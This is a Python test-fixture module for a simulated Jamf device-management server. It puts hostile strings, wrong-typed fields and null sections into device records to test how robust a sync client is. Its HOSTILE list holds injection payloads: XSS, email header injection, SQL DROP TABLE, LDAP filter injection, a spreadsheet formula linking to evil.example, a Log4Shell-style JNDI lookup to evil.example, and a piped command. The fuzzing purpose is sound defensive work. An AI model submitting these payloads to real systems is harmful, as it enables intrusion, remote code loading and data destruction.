"""Records that are hard to read: hostile texts, wrong types, sections that the server itself cannot read."""

from collections.abc import Iterable, Sequence
from dataclasses import dataclass, replace
from typing import Final

from mdm_sync.demo.jamf.answers import ApiError
from mdm_sync.demo.jamf.faults import Faults
from mdm_sync.demo.jamf.fleet import Fleet, Record
from mdm_sync.demo.jamf.mobile import SECTIONS
from mdm_sync.demo.jamf.mobile_sections import Json

HOSTILE: Final = (
    "<script>alert(1)</script>",
    "Zeile 1\nZeile 2\r\nBcc: opfer@example.test",
    "\x1b[31mrot\x1b[0m\x07",
    "\u202egnp.exe\u2066",
    "ü" * 10_000,
    "👩‍🏫🏴\u0301\u200b",
    '=HYPERLINK("http://evil.example";"klick")',
    "'); DROP TABLE device; --",
    "*)(uid=*))(|(uid=*",
    "{{ 7 * 7 }} ${jndi:ldap://evil.example} %s%n",
    "-1+1|cmd\t\x00",
)
"""What comes into a text field if nobody looks."""

_TEXTS: Final = (
    *("serial", "name", "asset_tag", "model", "username", "real_name"),
    *("email", "phone", "building", "room", "prestage"),
)

_WRONG: Final[dict[str, object]] = {
    "managed": "yes",
    "supervised": [True],
    "lastInventoryUpdateDate": 1_786_000_000,
    "lastContactDate": {"epoch": 1_786_000_000},
    "siteId": 7.5,
    "serialNumber": 4711,
    "batteryLevel": "81 %",
    "username": ["m.muster"],
    "emailAddress": False,
    "lostModeEnabled": "false",
    "purchased": "true",
    "poDate": 20230517,
}


@dataclass(frozen=True, slots=True, kw_only=True)
class Damage:
    """Which records are damaged at present, and how; equal damage gives equal bytes.

    Attributes:
        hostile: the highest id whose texts are hostile.
        unreadable: id of the record with wrong types.
        blank: id of the record whose sections are null.
    """

    hostile: int = 0
    unreadable: int | None = None
    blank: int | None = None

    def record(self, record: Record) -> Record:
        """Return the record with its texts replaced if they are to be hostile."""
        return hostile(record) if record.device.jamf_id <= self.hostile else record

    def row(self, jamf_id: int, row: Json) -> Json:
        """Return the JSON of a record with its sections spoiled if they are to be."""
        if jamf_id == self.unreadable:
            return {key: _wrong(section) for key, section in row.items()}
        if jamf_id == self.blank:
            return row | dict.fromkeys(SECTIONS.values())
        return row


def damage(faults: Faults, fleet: Fleet, family: str, *, lenient: bool = False) -> Damage:
    """Return the damage that is switched on."""
    return Damage(
        hostile=_hostile_until(faults, fleet, family),
        unreadable=victim(faults, fleet, family, "unreadable-record"),
        blank=victim(faults, fleet, family, "problem-record") if lenient else None,
    )


def victim(faults: Faults, fleet: Fleet, family: str, name: str) -> int | None:
    """Return the id of the one record that a fault is about: its value, or the middle one of the fleet."""
    ids = list(fleet.shown(family)) if faults.on(name) else []
    return faults.number(name, ids[len(ids) // 2]) if ids else None


def refuse_victims(faults: Faults, fleet: Fleet, family: str, rows: Sequence[Record], *, lenient: bool) -> None:
    """Raise ApiError 500 if the page holds a record that the server cannot read."""
    names = ["page-500"] if lenient else ["page-500", "problem-record"]
    bad = {victim(faults, fleet, family, name) for name in names} - {None}
    if bad and not bad.isdisjoint(row.device.jamf_id for row in rows):
        raise ApiError(500, "SYSTEM_EXCEPTION", "An internal error occurred")


def hostile(record: Record) -> Record:
    """Return the record with a hostile text in every field that holds free text, each ending with the record's id."""
    device = record.device
    number = device.jamf_id
    texts = iter(f"{HOSTILE[(number + place) % len(HOSTILE)]}{number}" for place in range(len(HOSTILE) * 3))
    replaced = replace(
        device,
        groups=tuple(_next_texts(texts, device.groups)),
        extension_attributes=tuple(
            (name, text) for (name, _), text in zip(device.extension_attributes, texts, strict=False)
        ),
        **dict(zip(_TEXTS, texts, strict=False)),  # type: ignore[arg-type]  # all of these fields are texts
    )
    return replace(record, device=replaced)


def _next_texts(texts: Iterable[str], old: Sequence[str]) -> list[str]:
    return [text for _, text in zip(old, texts, strict=False)]


def _hostile_until(faults: Faults, fleet: Fleet, family: str) -> int:
    if not faults.on("hostile-strings"):
        return 0
    ids = list(fleet.shown(family))
    wanted = faults.value("hostile-strings", "100")
    count = len(ids) if wanted == "all" else int(wanted)
    return max(ids[:count], default=0)


def _wrong(section: object) -> object:
    if not isinstance(section, dict):
        return section
    return {key: _WRONG.get(key, value) for key, value in section.items()}
